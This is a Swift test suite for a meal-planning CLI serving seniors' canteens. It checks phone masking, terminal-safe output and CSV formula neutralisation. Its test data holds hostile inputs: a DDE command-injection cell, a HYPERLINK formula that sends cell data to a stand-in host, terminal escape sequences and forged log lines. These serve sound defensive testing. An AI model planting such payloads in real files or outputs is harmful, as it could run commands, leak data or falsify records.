import Foundation
import GRDB
import XCTest

/// What leaves the database on paper, screens and spreadsheets: phone numbers masked however
/// they were typed, no control characters reaching the terminal, no cell a spreadsheet would
/// run, and rosters that list every meal of the plan even when the registry changed since.
final class PersonalTextOutputTests: XCTestCase {
    let date = "2026-11-25"

    /// One canteen with one sitting, a courier, a diner who dines in and two who get deliveries,
    /// with phone numbers typed every which way, and the day planned.
    private func prepared() throws -> CLIRunner {
        let cli = try CLIRunner()
        XCTAssertEqual(try cli.run(["init"]).status, 0)
        try cli.write("canteens.csv", """
            id,name,community,lat,lon,seats,sittings,kitchen_capacity
            C1,江边长者食堂,江边街道,28.25,117.03,10,11:00-12:00,20
            """)
        try cli.write("couriers.csv", """
            id,name,canteen_id,vehicle,capacity,shift_start,shift_end,phone
            K1,张建国,C1,ebike,8,10:30,13:30,139 1234 5678
            """)
        try cli.write("diners.csv", """
            id,name,community,lat,lon,address,phone,mode,emergency_contact
            D1,王秀英,江边街道,28.2505,117.03,滨江路12号,13612345678,dine_in,
            D2,李桂兰,江边街道,28.252,117.031,滨江路8号 门卫 137 1234 5678,138-1234-5678,delivery,邻居 15912345678
            D3,赵德明,江边街道,28.2515,117.0305,滨江路3号,１３５１２３４５６７８,delivery,女儿 ＋８６ １３３－１２３４－５６７８
            """)
        try cli.importRegistryFiles()
        let planned = try cli.run(["plan", "--date", date])
        XCTAssertEqual(planned.status, 0, planned.stderr)
        return cli
    }

    /// Every test phone number ends in 1234 5678; with separators and full-width digits taken
    /// out, a number shown in full leaves "12345678" in the text.
    private func showsAFullNumber(_ text: String) -> Bool {
        var digits = ""
        for scalar in text.unicodeScalars where !" -－\u{3000}.()".unicodeScalars.contains(scalar) {
            if (0xFF10...0xFF19).contains(scalar.value) {
                digits.unicodeScalars.append(Unicode.Scalar(scalar.value - 0xFF10 + 0x30)!)
            } else {
                digits.unicodeScalars.append(scalar)
            }
        }
        return digits.contains("12345678")
    }

    func testPhoneNumbersAreMaskedInEveryPrintAndExport() throws {
        let cli = try prepared()
        let outcome = try cli.run(["outcome", "D2", "--date", date, "--status", "no_answer", "--note", "邻居 159-1234-5678 说出门了"])
        XCTAssertEqual(outcome.status, 0, outcome.stderr)
        let commands: [[String]] = [
            ["roster", "--date", date, "--canteen", "C1"],
            ["roster", "--date", date, "--canteen", "C1", "--format", "html"],
            ["roster", "--date", date, "--canteen", "C1", "--format", "csv"],
            ["roster", "--date", date, "--canteen", "C1", "--format", "json"],
            ["alerts"],
            ["history", "--date", date],
            ["export", "diners"],
            ["export", "diners", "--format", "json"],
            ["export", "couriers"],
        ]
        for command in commands {
            let result = try cli.run(command)
            XCTAssertEqual(result.status, 0, "\(command): \(result.stderr)")
            XCTAssertFalse(showsAFullNumber(result.stdout), "\(command.joined(separator: " ")):\n\(result.stdout)")
        }
        let roster = try cli.run(["roster", "--date", date, "--canteen", "C1"]).stdout
        XCTAssertTrue(roster.contains("138****5678") && roster.contains("邻居 159****5678") && roster.contains("门卫 137 **** 5678")
                      && roster.contains("＋８６ １３３－****－５６７８"), roster)
        XCTAssertTrue(try cli.run(["alerts"]).stdout.contains("邻居 159-****-5678 说出门了"))
        let unmasked = try cli.run(["roster", "--date", date, "--canteen", "C1", "--unmasked"]).stdout
        XCTAssertTrue(unmasked.contains("13812345678") && unmasked.contains("邻居 15912345678"), unmasked)
        // A courier calls the diners and contacts of their own stops: route sheets show them in full.
        let routes = try cli.run(["routes", "--date", date]).stdout
        XCTAssertTrue(routes.contains("13812345678") && routes.contains("邻居 15912345678"), routes)
        XCTAssertTrue(try cli.run(["export", "diners", "--unmasked"]).stdout.contains("13512345678"),
                      "the full-width phone is stored as digits")
    }

    func testControlCharactersNeverReachTheTerminalNorForgeLines() throws {
        let cli = try prepared()
        try cli.write("bad.csv", "id,name,lat,lon\nD9,王\u{0}五,28.25,117.03\nD8,李\u{200B}四,28.25,117.03\n")
        let refused = try cli.run(["import", "diners", "bad.csv"])
        XCTAssertEqual(refused.status, 1)
        XCTAssertEqual(refused.stderr, """
            bad.csv:2: column name: control and invisible characters are not allowed (U+0000 at character 2) (got '王\\u{0}五')
            bad.csv:3: column name: control and invisible characters are not allowed (U+200B at character 2) (got '李\\u{200B}四')
            bad.csv: 2 errors; nothing was imported

            """)
        let forged = try cli.run(["outcome", "D1", "--date", date, "--status", "delivered", "--by", "张\n2026-11-25T00:00:00Z  admin"])
        XCTAssertNotEqual(forged.status, 0)
        XCTAssertTrue(forged.stderr.contains("--by"), forged.stderr)

        // A database written by another program (or before the rule) may hold anything.
        let queue = try DatabaseQueue(path: cli.path("meals.db"))
        try queue.write { db in
            try db.execute(sql: "UPDATE diner SET name = ? WHERE id = 'D2'", arguments: ["李\u{1B}[2J\u{1B}]0;pwned\u{7}桂兰"])
            try db.execute(sql: "UPDATE courier SET name = ? WHERE id = 'K1'", arguments: ["张\n送餐 K9 trip 9: forged"])
            try db.execute(sql: "UPDATE canteen SET name = ? WHERE id = 'C1'", arguments: ["江边\r\u{9B}31m食堂"])
            try db.execute(sql: "INSERT INTO change_log (at, by, action, subject, detail) VALUES (?, ?, ?, ?, ?)",
                           arguments: ["2026-11-24T08:00:00Z", "x\n2026-11-24T09:00:00Z  admin", "publish", date, "v1\u{1B}[8m"])
        }
        try queue.close()
        XCTAssertEqual(try cli.run(["outcome", "D2", "--date", date, "--status", "no_answer"]).status, 0)
        for command in [["roster", "--date", date, "--canteen", "C1"], ["roster", "--date", date, "--canteen", "C1", "--format", "html"],
                        ["roster", "--date", date, "--canteen", "C1", "--format", "csv"], ["routes", "--date", date],
                        ["alerts"], ["history", "--date", date], ["check", "--date", date], ["export", "diners"],
                        ["coverage"], ["coverage", "--format", "csv"]] {
            let result = try cli.run(command)
            let raw = result.stdout.unicodeScalars.filter { ($0.value < 0x20 && $0 != "\n") || (0x7F...0x9F).contains($0.value) }
            XCTAssertEqual(raw.map(\.value), [], "\(command.joined(separator: " ")):\n\(result.stdout)")
            XCTAssertFalse(result.stdout.split(separator: "\n").contains { $0.hasPrefix("送餐 K9") || $0.hasPrefix("2026-11-24T09") },
                           "a forged line: \(command.joined(separator: " ")):\n\(result.stdout)")
        }
        let routes = try cli.run(["routes", "--date", date]).stdout
        XCTAssertTrue(routes.contains("李\\u{1B}[2J\\u{1B}]0;pwned\\u{7}桂兰"), routes)
        XCTAssertTrue(try cli.run(["history", "--date", date]).stdout.contains("x\\u{A}2026-11-24T09:00:00Z  admin"))
    }

    func testNoCSVCellFromDataIsAFormula() throws {
        let cli = try prepared()
        try cli.write("community.csv", """
            id,name,community,lat,lon,mode
            D4,钱秀珍,+cmd|' /C calc'!A0,28.2506,117.0301,dine_in
            """)
        XCTAssertEqual(try cli.run(["import", "diners", "community.csv"]).status, 0)
        // Ids stored before the id rule (or by another program) may start a formula.
        var configuration = Configuration()
        configuration.foreignKeysEnabled = false
        let queue = try DatabaseQueue(path: cli.path("meals.db"), configuration: configuration)
        let canteenID = "=HYPERLINK(\"http://x/\"&A1)"
        try queue.write { db in
            for (table, column) in [("canteen", "id"), ("sitting", "canteen_id"), ("courier", "canteen_id")] {
                try db.execute(sql: "UPDATE \(table) SET \(column) = ? WHERE \(column) = 'C1'", arguments: [canteenID])
            }
            try db.execute(sql: "UPDATE diner SET id = '@A1' WHERE id = 'D1'")
            try db.execute(sql: "UPDATE courier SET id = '=K0+1' WHERE id = 'K1'")
        }
        try queue.close()
        let replanned = try cli.run(["plan", "--date", "2026-11-26"])
        XCTAssertEqual(replanned.status, 0, replanned.stderr)
        var seen: Set<String> = []
        for command in [["export", "canteens"], ["export", "couriers"], ["export", "diners"], ["coverage", "--format", "csv"],
                        ["roster", "--date", "2026-11-26", "--canteen", canteenID, "--format", "csv"]] {
            let result = try cli.run(command)
            XCTAssertEqual(result.status, 0, "\(command): \(result.stderr)")
            for cell in try Self.cells(result.stdout) {
                seen.insert(cell)
                if cell.range(of: #"^-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?$"#, options: .regularExpression) != nil { continue }
                XCTAssertFalse(["=", "+", "-", "@", "\t", "\r"].contains(cell.first.map(String.init) ?? ""),
                               "\(command.joined(separator: " ")): the cell \(cell) would run as a formula")
            }
        }
        for guarded in ["'" + canteenID, "'@A1", "'=K0+1", "'+cmd|' /C calc'!A0"] {
            XCTAssertTrue(seen.contains(guarded), "\(guarded) in \(seen.sorted())")
        }
    }

    func testARosterListsEveryMealAfterTheCanteenLostItsSittings() throws {
        let cli = try prepared()
        try cli.write("canteens.csv", """
            id,name,community,lat,lon,seats,sittings,kitchen_capacity
            C1,江边长者食堂,江边街道,28.25,117.03,0,,20
            """)
        let reimported = try cli.run(["import", "canteens", "canteens.csv"])
        XCTAssertEqual(reimported.status, 0, reimported.stderr)
        let roster = try cli.run(["roster", "--date", date, "--canteen", "C1"])
        XCTAssertEqual(roster.status, 0, roster.stderr)
        XCTAssertTrue(roster.stdout.contains("3 meals: 1 dine-in, 0 pickup, 2 delivery"), roster.stdout)
        XCTAssertTrue(roster.stdout.contains("王秀英"), roster.stdout)
        XCTAssertTrue(roster.stdout.contains("sitting 11:00-12:00 is not in the registry"), roster.stdout)
        for format in ["html", "csv", "json"] {
            let other = try cli.run(["roster", "--date", date, "--canteen", "C1", "--format", format])
            XCTAssertTrue(other.stdout.contains("王秀英"), "\(format):\n\(other.stdout)")
        }
        let check = try cli.run(["check", "--date", date])
        XCTAssertEqual(check.status, 1)
        XCTAssertTrue(check.stdout.contains("no_such_sitting"), check.stdout)
    }

    /// Every cell of a CSV text (a byte order mark dropped).
    private static func cells(_ text: String) throws -> [String] {
        var fields: [String] = [], field = "", quoted = false, atStart = true
        var scalars = Array(text.unicodeScalars.drop { $0 == "\u{FEFF}" })[...]
        while let scalar = scalars.popFirst() {
            if quoted {
                if scalar == "\"" {
                    if scalars.first == "\"" { scalars.removeFirst(); field.unicodeScalars.append("\"") } else { quoted = false }
                } else {
                    field.unicodeScalars.append(scalar)
                }
            } else if scalar == "\"" && atStart {
                quoted = true
            } else if scalar == "," || scalar == "\n" {
                fields.append(field)
                field = ""
                atStart = true
                continue
            } else {
                field.unicodeScalars.append(scalar)
            }
            atStart = false
        }
        if !field.isEmpty { fields.append(field) }
        return fields
    }
}
